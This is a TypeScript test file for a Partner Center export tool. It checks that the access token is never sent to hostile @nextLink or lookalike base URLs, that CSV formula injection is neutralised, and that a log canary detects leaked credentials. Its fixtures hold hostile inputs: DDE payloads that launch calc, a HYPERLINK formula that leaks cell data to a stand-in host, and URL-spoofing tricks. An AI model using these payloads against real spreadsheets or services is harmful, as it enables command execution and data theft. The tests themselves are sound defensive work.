import { randomUUID } from "node:crypto";
import { parse } from "csv-parse/sync";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  CREDENTIAL_PATTERNS,
  FIXTURE_SECRETS,
  capturedOutput,
  findCredentials,
  recordOutput,
} from "../support/canary.js";
import { createLogger } from "../../src/logging/logger.js";
import { loadSettings } from "../../src/config/settings.js";
import { newRunId } from "../../src/export/runId.js";
import { JOB_MAX_DEQUEUE_COUNT } from "../../src/runs/jobQueue.js";
import type { Referral } from "../../src/simulator/dataset.js";
import type { SimulatorServer } from "../../src/simulator/server.js";
import { tokensIssuedInProcess, TokenRegistry } from "../../src/simulator/tokenRegistry.js";
import { TEST_TOKEN } from "../support/exportFixture.js";
import { startAuthFixture } from "../support/authFixture.js";
import {
  ArrayDataset,
  csvRecords,
  expectUnchanged,
  newReferral,
  startFaultFixture,
  startRecorder,
  storageSnapshot,
  type FaultFixture,
} from "./harness.js";

/**
 * Security checks: the Partner Center token never leaves for another origin (hostile @nextLink,
 * base URL tricks), loopback and plain-HTTP endpoints need LOCAL_MODE=true, the CSV formula guard
 * holds for every dangerous first character, and the log canary itself works.
 */
const PROFILE = "faults-security";

let fx: FaultFixture | undefined;
let recorder: SimulatorServer;
let plainRecorder: SimulatorServer;

beforeAll(async () => {
  recorder = await startRecorder(true);
  plainRecorder = await startRecorder(false);
});
afterAll(async () => {
  await recorder.close();
  await plainRecorder.close();
});
afterEach(async () => {
  await fx?.close();
  fx = undefined;
  recorder.clearRequests();
  plainRecorder.clearRequests();
});

const authorizationSeenBy = (server: SimulatorServer): string[] =>
  server.requests.map((r) => r.headers.authorization ?? "").filter((h) => h !== "");

describe("the token never follows a @nextLink to another origin", () => {
  it("the simulator's absolute @nextLink pointing at another loopback origin: refused, nothing sent there", async () => {
    fx = await startFaultFixture({
      profile: PROFILE,
      rows: 1_200,
      nextLinkMode: "absolute",
      absoluteOrigin: recorder.url,
    });
    const result = await fx.cli(["export", "--profile", PROFILE]);
    expect(result.code).toBe(1);
    expect(result.err).toContain(
      `failed (upstream): Partner Center returned a @nextLink to ${recorder.url}, not ${fx.server.url}; refusing to send the token there`,
    );
    expect(recorder.requests).toHaveLength(0);
    expect(fx.referralsRequests()).toHaveLength(1);
    expect((await storageSnapshot(fx.container)).blobs.size).toBe(0);
  });

  it("a refused @nextLink ends a queued run at its first delivery: one request, no retry, the origin named", async () => {
    fx = await startFaultFixture({
      profile: PROFILE,
      rows: 1_200,
      nextLinkMode: "absolute",
      absoluteOrigin: recorder.url,
    });
    const runId = newRunId();
    const kinds: string[] = [];
    // Delivered as the queue trigger would, until the run service stops asking for a redelivery.
    for (let delivery = 1; delivery <= JOB_MAX_DEQUEUE_COUNT; delivery++) {
      const outcome = await fx.services.runs.execute(
        {
          runId,
          profile: PROFILE,
          trigger: "http",
          query: { filter: null, groupby: null, aggregationLevel: null },
          formats: ["csv"],
          correlationId: randomUUID(),
        },
        { dequeueCount: delivery },
      );
      kinds.push(outcome.kind);
      if (outcome.kind !== "retry") break;
    }
    expect(kinds).toEqual(["failed"]);
    expect(fx.referralsRequests()).toHaveLength(1);
    expect(recorder.requests).toHaveLength(0);
    const run = await fx.services.runs.get(runId);
    expect(run).toMatchObject({ status: "failed", error: { reason: "upstream" } });
    expect(run?.error?.message).toContain(`Partner Center returned a @nextLink to ${recorder.url}`);
    expect((await storageSnapshot(fx.container)).blobs.size).toBe(0);
  });

  it("the same absolute @nextLink on the API's own origin is followed (control)", async () => {
    fx = await startFaultFixture({ profile: PROFILE, rows: 1_200, nextLinkMode: "absolute" });
    const result = await fx.cli(["export", "--profile", PROFILE]);
    expect(result.code).toBe(0);
    expect(fx.referralsRequests()).toHaveLength(3);
    expect(recorder.requests).toHaveLength(0);
  });

  const links: [string, (self: string, other: string, plain: string) => string][] = [
    ["another port", (_s, o) => `${o}/partner/v1/analytics/referrals?top=500&skip=500`],
    ["plain http on another port", (_s, _o, p) => `${p}/partner/v1/analytics/referrals?skip=500`],
    [
      "the API's host over plain http",
      (s) => `${s.replace("https:", "http:")}/partner/v1/analytics/referrals?skip=500`,
    ],
    [
      "a protocol-relative link",
      (_s, o) => `${o.replace("https:", "")}/partner/v1/analytics/referrals?skip=500`,
    ],
    [
      "the API's origin as user info before another host",
      (s, o) =>
        `https://${s.replace("https://", "")}@${o.replace("https://", "")}/partner/v1/analytics/referrals`,
    ],
    [
      "backslashes instead of slashes",
      (_s, o) => `${o.replace("https://", "\\\\")}/partner/v1/analytics/referrals`,
    ],
    [
      "localhost instead of 127.0.0.1",
      (_s, o) => `${o.replace("127.0.0.1", "localhost")}/partner/v1/analytics/referrals`,
    ],
    ["a javascript: link", () => "javascript:fetch('https://example.invalid')"],
    ["a data: link", () => "data:application/json,{}"],
  ];

  it.each(links)("a @nextLink to %s: refused before any request, nothing published", async (_name, make) => {
    let link = "";
    fx = await startFaultFixture({
      profile: PROFILE,
      respond: (n) => {
        if (n !== 1) return undefined;
        const rows = fx!.dataset.rows.slice(0, 500);
        return { Value: rows, "@nextLink": link, TotalCount: 1_000 };
      },
    });
    link = make(fx.server.url, recorder.url, plainRecorder.url);
    const result = await fx.cli(["export", "--profile", PROFILE]);
    expect(result.code).toBe(1);
    expect(result.err).toMatch(
      /failed \(upstream\): Partner Center returned (a @nextLink to \S+, not \S+; refusing to send the token there|an unusable @nextLink)/,
    );
    expect(recorder.requests).toHaveLength(0);
    expect(plainRecorder.requests).toHaveLength(0);
    expect(fx.referralsRequests()).toHaveLength(1);
    expect((await storageSnapshot(fx.container)).blobs.size).toBe(0);
  });
});

describe("base URLs: another host, loopback, plain HTTP", () => {
  const port = (): string => new URL(recorder.url).port;
  const refused: [string, () => string, RegExp][] = [
    ["127.0.0.1", () => recorder.url, /points at this machine \(127\.0\.0\.1\); that needs LOCAL_MODE=true/],
    ["localhost", () => `https://localhost:${port()}`, /points at this machine \(localhost\)/],
    [
      "localhost. (trailing dot)",
      () => `https://localhost.:${port()}`,
      /points at this machine \(localhost\.\)/,
    ],
    ["an IPv4-mapped IPv6 loopback", () => `https://[::ffff:127.0.0.1]:${port()}`, /points at this machine/],
    ["the IPv6 loopback", () => `https://[::1]:${port()}`, /points at this machine/],
    ["the unspecified IPv6 address", () => `https://[::]:${port()}`, /points at this machine/],
    [
      "127.0.0.1 written as one number",
      () => `https://2130706433:${port()}`,
      /points at this machine \(127\.0\.0\.1\)/,
    ],
    ["127.0.0.1 written in hex", () => `https://0x7f.1:${port()}`, /points at this machine \(127\.0\.0\.1\)/],
    [
      "plain http",
      () => "http://api.partnercenter.microsoft.com",
      /must use https \(http is only allowed with LOCAL_MODE=true\)/,
    ],
    [
      "user info that makes another host look like Partner Center",
      () => `https://api.partnercenter.microsoft.com@127.0.0.1:${port()}`,
      /must not contain a user name or password/,
    ],
  ];

  it.each(refused)(
    "PARTNER_CENTER_BASE_URL at %s without LOCAL_MODE: exit 2, nothing sent anywhere",
    async (_name, url, message) => {
      fx = await startFaultFixture({ profile: PROFILE, rows: 10 });
      const result = await fx.cli(["export", "--profile", PROFILE], {
        LOCAL_MODE: "false",
        LOCAL_CA_CERT_FILE: "",
        PARTNER_CENTER_BASE_URL: url(),
      });
      expect(result.code).toBe(2);
      expect(result.err).toMatch(/PARTNER_CENTER_BASE_URL/);
      expect(result.err).toMatch(message);
      expect(recorder.requests).toHaveLength(0);
      expect(fx.referralsRequests()).toHaveLength(0);
    },
  );

  it.each([
    ["KEY_VAULT_URL", "https://localhost:8443"],
    ["PARTNER_CENTER_AUTHORITY_HOST", "https://[::ffff:7f00:1]:8443"],
    ["EXPORT_STORAGE_ACCOUNT_URL", "http://127.0.0.1:10000/devstoreaccount1"],
  ])("%s at %s is refused without LOCAL_MODE", (name, value) => {
    expect(() =>
      loadSettings({ EXPORT_STORAGE_ACCOUNT_URL: "https://acct.blob.core.windows.net", [name]: value }),
    ).toThrow(new RegExp(`${name} (points at this machine|must use https)`));
  });

  // Refused at start-up, before any name lookup: these hosts are never contacted (test or not).
  it.each([
    ["PARTNER_CENTER_BASE_URL", "https://evil.example", "https://api.partnercenter.microsoft.com"],
    [
      "PARTNER_CENTER_BASE_URL",
      "https://api.partnercenter.microsoft.com.evil.example",
      "https://api.partnercenter.microsoft.com",
    ],
    ["PARTNER_CENTER_AUTHORITY_HOST", "https://login.evil.example", "https://login.microsoftonline.com"],
    [
      "PARTNER_CENTER_AUTHORITY_HOST",
      "https://login.microsoftonline.com.evil.example",
      "https://login.microsoftonline.com",
    ],
  ])("%s at another https host (%s) is refused without LOCAL_MODE", (name, value, allowed) => {
    const host = new URL(value).host;
    expect(() =>
      loadSettings({ EXPORT_STORAGE_ACCOUNT_URL: "https://acct.blob.core.windows.net", [name]: value }),
    ).toThrow(`${name} points at ${host}; without LOCAL_MODE=true it must be exactly ${allowed} (the `);
  });

  it("with LOCAL_MODE=true the same loopback base URL is used, and the token goes there (control)", async () => {
    fx = await startFaultFixture({ profile: PROFILE, rows: 10 });
    const result = await fx.cli(["export", "--profile", PROFILE], { PARTNER_CENTER_BASE_URL: recorder.url });
    expect(result.code).toBe(0);
    expect(authorizationSeenBy(recorder)).toEqual([`Bearer ${TEST_TOKEN}`]);
  });

  it("with LOCAL_MODE=true a plain-http base URL never gets the token: the run fails before sending it", async () => {
    fx = await startFaultFixture({ profile: PROFILE, rows: 10 });
    const before = await storageSnapshot(fx.container);
    const result = await fx.cli(["export", "--profile", PROFILE], {
      PARTNER_CENTER_BASE_URL: plainRecorder.url,
    });
    expect(result.code).toBe(1);
    expect(authorizationSeenBy(plainRecorder)).toEqual([]);
    expectUnchanged(before, await storageSnapshot(fx.container));
  });
});

describe("CSV formula guard", () => {
  const payloads: [string, string][] = [
    ["=", "=cmd|' /C calc'!A0"],
    ["=", '=HYPERLINK("http://example.invalid/?leak="&A1,"Click")'],
    ["+", "+1+cmd|' /C calc'!A0"],
    ["-", "-2+3+cmd|' /C calc'!A0"],
    ["@", "@SUM(1+1)*cmd|' /C calc'!A0"],
    ["tab", "\t=1+1"],
    ["CR", "\r=1+1"],
  ];
  const fields = ["customerName", "status", "customerMarket", "customerOrgSize", "partnerMarket"] as const;

  function rowsWithPayloads(): Referral[] {
    const rows: Referral[] = [];
    let n = 0;
    for (const [, payload] of payloads)
      for (const field of fields) rows.push(newReferral(++n, { [field]: payload }));
    rows.push(newReferral(n + 1, { id: "=1+1" }));
    return rows;
  }

  it("every dangerous first character (= + - @ tab CR) in every text column gets a leading quote in CSV; JSON keeps the value", async () => {
    const rows = rowsWithPayloads();
    fx = await startFaultFixture({ profile: PROFILE, dataset: new ArrayDataset(rows) });
    expect((await fx.cli(["export", "--profile", PROFILE])).code).toBe(0);
    const storage = await storageSnapshot(fx.container);
    const csv = csvRecords(storage.blobs.get(`${PROFILE}/latest/referrals.csv`)!);
    const json = JSON.parse(
      storage.blobs.get(`${PROFILE}/latest/referrals.json`)!.toString("utf8"),
    ) as Record<string, unknown>[];
    expect(csv).toHaveLength(rows.length);
    rows.forEach((row, i) => {
      for (const field of ["id", ...fields] as const) {
        const value = row[field];
        const dangerous = /^[=+\-@\t\r]/.test(value);
        expect(csv[i]![field], `${field} of row ${i}`).toBe(dangerous ? `'${value}` : value);
        expect(json[i]![field]).toBe(value);
      }
    });
    // No cell of the CSV starts with a formula character.
    for (const record of csv)
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(payloads.map(([p]) => p)).toEqual(["=", "=", "+", "-", "@", "tab", "CR"]);
  });

  it("holds for group keys in a grouped export", async () => {
    const rows = [
      newReferral(1, { customerMarket: "=cmd|' /C calc'!A0" }),
      newReferral(2, { customerMarket: "@SUM(1)" }),
      newReferral(3, { customerMarket: "US" }),
    ];
    fx = await startFaultFixture({ profile: PROFILE, dataset: new ArrayDataset(rows) });
    const result = await fx.cli([
      "export",
      "--name",
      "faults-security-grouped",
      "--groupby",
      "customerMarket",
    ]);
    expect(result.code).toBe(0);
    const storage = await storageSnapshot(fx.container);
    const csv = csvRecords(storage.blobs.get("faults-security-grouped/latest/referrals.csv")!);
    expect(csv.map((r) => r.customerMarket).sort()).toEqual(["'=cmd|' /C calc'!A0", "'@SUM(1)", "US"].sort());
  });

  it("EXPORT_CSV_FORMULA_GUARD=false writes the values as they are (documented switch)", async () => {
    fx = await startFaultFixture({
      profile: PROFILE,
      dataset: new ArrayDataset([newReferral(1, { customerName: "=1+1" })]),
      env: { EXPORT_CSV_FORMULA_GUARD: "false" },
    });
    expect((await fx.cli(["export", "--profile", PROFILE])).code).toBe(0);
    const storage = await storageSnapshot(fx.container);
    expect(csvRecords(storage.blobs.get(`${PROFILE}/latest/referrals.csv`)!)[0]!.customerName).toBe("=1+1");
  });

  it("a line break inside a value stays inside its quoted field for a line-oriented reader", async () => {
    const rows = [
      newReferral(1, { customerName: "Line One\nLine Two Ltd" }),
      newReferral(2, { customerName: "Carriage\rReturn GmbH" }),
      newReferral(3, { customerName: "Plain" }),
    ];
    fx = await startFaultFixture({ profile: PROFILE, dataset: new ArrayDataset(rows) });
    expect((await fx.cli(["export", "--profile", PROFILE])).code).toBe(0);
    const body = (await storageSnapshot(fx.container)).blobs.get(`${PROFILE}/latest/referrals.csv`)!;
    const records = parse<Record<string, string>>(body, {
      columns: true,
      record_delimiter: ["\r\n", "\n", "\r"],
    });
    expect(records.map((r) => r.customerName)).toEqual(rows.map((r) => r.customerName));
  });
});

describe("log canary", () => {
  it("finds issued tokens, fixture secrets and credential shapes, and only those", () => {
    const registry = new TokenRegistry();
    const { token } = registry.issueAccessToken({
      audience: "https://api.partnercenter.microsoft.com",
      scopes: ["user_impersonation"],
      delegated: true,
      clientId: "c",
      tenantId: "t",
      userOid: "u",
    });
    const refresh = registry.issueRefreshToken({
      clientId: "c",
      tenantId: "t",
      user: { username: "u@example.invalid", oid: "u", name: "U" },
      scopes: [],
      publicClient: true,
    });
    // The process-wide record sees every registry's tokens.
    expect(tokensIssuedInProcess()).toEqual(expect.arrayContaining([token, refresh]));
    const secrets = [...FIXTURE_SECRETS, token, refresh];
    const leak = (text: string): string[] => findCredentials(text, secrets).map((f) => f.what);

    expect(leak(`{"msg":"x","token":"${token}"}`)).toEqual([expect.stringMatching(/^secret #/), "a JWT"]);
    expect(leak(`refreshing with ${refresh}`)).toEqual([
      expect.stringMatching(/^secret #/),
      "a simulator refresh token",
    ]);
    expect(leak(`header authorization: Bearer ${TEST_TOKEN}`)).toEqual([
      expect.stringMatching(/^secret #/),
      "a bearer value",
    ]);
    expect(leak("client secret local-0b1c2d3e-4f5a-4b6c-8d7e-9f0a1b2c3d4e")).toEqual([
      "a simulated app's client secret",
    ]);
    expect(leak("Authorization: Bearer abcdefghijklmnopqrstuvwxyz0123")).toEqual(["a bearer value"]);
    const sas =
      "https://acct.blob.core.windows.net/referrals/a/referrals.csv?sv=2026-10-06&spr=https&se=2026-11-24T10%3A30%3A00Z&sr=b&sp=r&sig=I8tFoSRBgxvjcjOhdZgtY5YEZxFQFNe%2Fy8sQKDrRcLk%3D";
    expect(leak(`read link ${sas}`)).toEqual(["a SAS signature"]);
    // What the product's logger makes of a credential passes: it is redacted.
    const logged: string[] = [];
    createLogger("debug", (line) => logged.push(line)).info(`calling with Bearer ${token}`, {
      authorization: `Bearer ${token}`,
      refreshToken: refresh,
      detail: `refresh_token=${refresh}&client_secret=${FIXTURE_SECRETS[1]!}`,
    });
    createLogger("debug", (line) => logged.push(line)).info("signed", { link: sas });
    expect(logged).toHaveLength(2);
    for (const line of logged) expect(leak(line)).toEqual([]);
    // Redacted and harmless text passes.
    for (const clean of [
      `{"authorization":"REDACTED"}`,
      "Bearer [redacted]",
      "[redacted-jwt]",
      'www-authenticate: Bearer authorization="https://127.0.0.1:1/t", resource="https://vault.azure.net"',
      "Bearer token authentication is not permitted for non-TLS protected (non-https) URLs.",
      // The Storage SDK's own request logs mask a SAS signature like this.
      "GET https://acct.blob.core.windows.net/referrals/a.csv?sv=2026-10-06&sp=r&sig=REDACTED",
    ])
      expect(leak(clean), clean).toEqual([]);
    expect(CREDENTIAL_PATTERNS.length).toBe(5);
  });

  it("knows the fixtures' secrets", async () => {
    expect(FIXTURE_SECRETS).toContain(TEST_TOKEN);
    const auth = await startAuthFixture({ lockContainer: "faults-security-canary-locks" });
    try {
      expect(FIXTURE_SECRETS).toEqual(expect.arrayContaining([auth.clientSecret, auth.keyVaultClientSecret]));
    } finally {
      await auth.close();
    }
  });

  it("captures this process's output, including product log lines written to stdout", () => {
    const logger = createLogger("info");
    logger.info("canary probe line", { probe: 42 });
    recordOutput("child process output\n");
    const text = capturedOutput();
    expect(text).toContain('"msg":"canary probe line"');
    expect(text).toContain("child process output");
  });
});
